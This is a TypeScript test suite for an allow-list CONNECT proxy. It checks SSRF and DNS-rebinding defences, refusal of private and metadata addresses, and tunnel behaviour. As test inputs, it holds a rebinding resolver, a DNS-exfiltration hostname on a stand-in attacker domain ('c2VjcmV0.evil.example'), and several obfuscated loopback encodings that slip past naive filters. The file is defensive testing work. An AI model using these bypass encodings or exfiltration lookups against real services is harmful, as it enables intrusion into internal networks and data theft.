import { lookup } from 'node:dns/promises'
import { once } from 'node:events'
import { Duplex, duplexPair } from 'node:stream'
import { expect, test } from 'vitest'
import { connectVia, dialTo, proxyWith, readAll, readUntil, tcpServer } from './testkit.ts'
import { join } from './tunnel.ts'

const echo = () => tcpServer((socket) => socket.on('data', (data) => socket.write(`echo ${data}`)))

/** Resolves like a hostile name server: each question gets the next answer. */
function rebinding(...answers: string[][]) {
  const asked: string[] = []
  const resolve = async (host: string) => {
    asked.push(host)
    return answers[asked.length - 1] ?? answers.at(-1) ?? []
  }
  return { asked, resolve }
}

test('the address that was checked is the one that is dialled: the name is asked once', async () => {
  const { resolve, asked } = rebinding(['203.0.113.5'], ['127.0.0.1'])
  const { dial, dialled } = dialTo(await echo())
  const { open, decisions } = proxyWith(['rebind.example:8080'], { resolve, dial })
  const stream = open()
  expect(await connectVia(stream, 'rebind.example:8080')).toMatch(/ 200 /)
  expect({ asked, dialled }).toEqual({ asked: ['rebind.example'], dialled: ['203.0.113.5:8080'] })
  expect(decisions).toMatchObject([{ allowed: true, address: '203.0.113.5' }])
  const again = open()
  expect(await connectVia(again, 'rebind.example:8080')).toMatch(/ 403 /)
  expect(dialled).toHaveLength(1)
  expect(decisions[1]).toMatchObject({ host: 'rebind.example', allowed: false, rule: 'loopback' })
})

test.each([
  ['127.0.0.1', 'loopback'],
  ['10.0.0.1', 'private'],
  ['169.254.169.254', 'link_local'],
  ['100.100.100.100', 'carrier_grade_nat'],
  ['fd12::1', 'unique_local'],
  ['::ffff:127.0.0.1', 'loopback'],
  ['64:ff9b::a00:1', 'private'],
  ['0.0.0.0', 'unspecified'],
])('a name that resolves to %s is refused, and needs an entry for the range too', async (address, rule) => {
  const { dial, dialled } = dialTo(await echo())
  const resolve = async () => [address]
  const { open, decisions } = proxyWith(['inner.example:5432'], { resolve, dial })
  const stream = open()
  stream.write('CONNECT inner.example:5432 HTTP/1.1\r\n\r\n')
  expect(await readAll(stream)).toContain(`rule=${rule}; target="inner.example:5432"`)
  expect(dialled).toEqual([])
  expect(decisions).toMatchObject([{ allowed: false, rule }])
  const own = address.includes(':') ? `[${address}]:5432` : `${address}/32:5432`
  const opened = proxyWith(['inner.example:5432', own], { resolve, dial })
  expect(await connectVia(opened.open(), 'inner.example:5432')).toMatch(/ 200 /)
  const onlyRange = proxyWith([own], { resolve, dial })
  expect(await connectVia(onlyRange.open(), 'inner.example:5432')).toContain('rule=not_allowed')
})

test('an answer with good and bad addresses: only the good ones are dialled, one after the other, up to four', async () => {
  const tried: string[] = []
  const { open, decisions } = proxyWith(['many.example:80'], {
    resolve: async () => [
      '127.0.0.1',
      '192.0.2.1',
      '10.0.0.1',
      '192.0.2.2',
      '192.0.2.3',
      '192.0.2.4',
      '192.0.2.5',
    ],
    dial: async ({ address }) => {
      tried.push(address)
      throw Object.assign(new Error('refused'), { code: 'ECONNREFUSED' })
    },
  })
  const stream = open()
  stream.write('CONNECT many.example:80 HTTP/1.1\r\n\r\n')
  expect(await readAll(stream)).toMatch(/^HTTP\/1.1 502 [\s\S]*failed; rule=unreachable/)
  expect(tried).toEqual(['192.0.2.1', '192.0.2.2', '192.0.2.3', '192.0.2.4'])
  expect(decisions).toMatchObject([
    { allowed: true, rule: 'many.example:80', reason: expect.stringContaining('ECONNREFUSED') },
  ])
})

test('the next address is tried when the first does not answer', async () => {
  const port = await echo()
  const { dial } = dialTo(port)
  const { open, decisions } = proxyWith(['two.example:80'], {
    resolve: async () => ['192.0.2.1', '192.0.2.2'],
    dial: async (to) => {
      if (to.address === '192.0.2.1') throw new Error('no route')
      return dial(to)
    },
  })
  expect(await connectVia(open(), 'two.example:80')).toMatch(/ 200 /)
  expect(decisions).toMatchObject([{ address: '192.0.2.2' }])
})

test('a name that is not on the list is never looked up: a lookup alone could carry data out', async () => {
  const { resolve, asked } = rebinding(['192.0.2.1'])
  const { open } = proxyWith(['good.example:443'], { resolve })
  await connectVia(open(), 'c2VjcmV0.evil.example:443')
  expect(asked).toEqual([])
})

test('a name without address, and a lookup that hangs', async () => {
  for (const [resolve, rule] of [
    [async () => [], 'unreachable'],
    [async () => Promise.reject(Object.assign(new Error('x'), { code: 'ENOTFOUND' })), 'unresolved'],
    [() => new Promise<string[]>(() => undefined), 'unresolved'],
  ] as const) {
    const { open } = proxyWith(['gone.example:80'], { resolve, limits: { connectTimeout: 50 } })
    expect(await connectVia(open(), 'gone.example:80')).toContain(`failed; rule=${rule}`)
  }
})

test('localhost is the loopback whatever the resolver says', async () => {
  const resolve = async () => ['192.0.2.1']
  const { open } = proxyWith(['localhost:80', '*.localhost:80'], { resolve })
  for (const name of ['localhost', 'x.localhost', 'LOCALHOST.'])
    expect(await connectVia(open(), `${name}:80`)).toContain('rule=loopback')
})

test('the system resolver reads odd numbers as addresses, so they must not reach it', async () => {
  expect((await lookup('127.1')).address).toBe('127.0.0.1')
  const { open, decisions } = proxyWith(['*:80'])
  for (const odd of [
    '127.1',
    '0x7f.1',
    '2130706433',
    '0177.0.0.1',
    '127.0.0.1.',
    '[::ffff:127.0.0.1]',
    '%31%32%37.0.0.1',
  ]) {
    const text = await connectVia(open(), `${odd}:80`)
    expect(text).toMatch(/^HTTP\/1.1 (400|403) .*\r\n[\s\S]*rule=(invalid_target|loopback)/)
  }
  expect(decisions.every(({ allowed }) => !allowed)).toBe(true)
})

test('at most two lookups run at one time', async () => {
  let [running, most] = [0, 0]
  const { open } = proxyWith(['*.example:80'], {
    resolve: async () => {
      most = Math.max(most, ++running)
      await new Promise((done) => setTimeout(done, 5))
      running--
      return []
    },
  })
  await Promise.all(Array.from({ length: 10 }, (_, i) => connectVia(open(), `n${i}.example:80`)))
  expect(most).toBe(2)
})

test('end of input and end of output cross the tunnel one by one', async () => {
  const port = await tcpServer((socket) => {
    let text = ''
    socket.on('data', (data) => {
      text += data
    })
    socket.on('end', () => socket.end(`all: ${text}`))
  })
  const { open } = proxyWith([`127.0.0.1:${port}`])
  const stream = open()
  await connectVia(stream, `127.0.0.1:${port}`)
  stream.end('one two')
  expect(await readUntil(stream, 'two')).toBe('all: one two')
})

test('a client that takes its bytes slowly gets all of them, although the server has closed before', async () => {
  let [taken, closed] = ['', false]
  const client = new Duplex({
    read() {
      this.push(null)
    },
    write(chunk, _encoding, done) {
      setTimeout(() => {
        taken += `${closed ? 'late ' : ''}${chunk} `
        done()
      }, 20)
    },
  })
  const [server, far] = duplexPair()
  server.on('close', () => {
    closed = true
  })
  join(client, server, 10_000)
  far.resume()
  for (const word of ['one', 'two', 'three']) far.write(word)
  far.end()
  await once(client, 'close')
  expect(taken).toBe('late one late two late three ')
})

test('lookups that hang hold their place, but those that wait behind them give up in time', async () => {
  const asked: string[] = []
  const { open } = proxyWith(['*.example:80'], {
    resolve: (host) => {
      asked.push(host)
      return new Promise(() => undefined)
    },
    limits: { connectTimeout: 50 },
  })
  for (let round = 0; round < 2; round++) {
    const texts = await Promise.all(Array.from({ length: 5 }, () => connectVia(open(), 'slow.example:80')))
    for (const text of texts) expect(text).toContain('rule=unresolved')
  }
  expect(asked).toHaveLength(2)
})

test('a server that breaks off breaks the tunnel', async () => {
  const port = await tcpServer((socket) => socket.once('data', () => socket.resetAndDestroy()))
  const { open } = proxyWith([`127.0.0.1:${port}`])
  const stream = open()
  await connectVia(stream, `127.0.0.1:${port}`)
  stream.write('x')
  expect(await readAll(stream)).toBe('')
})
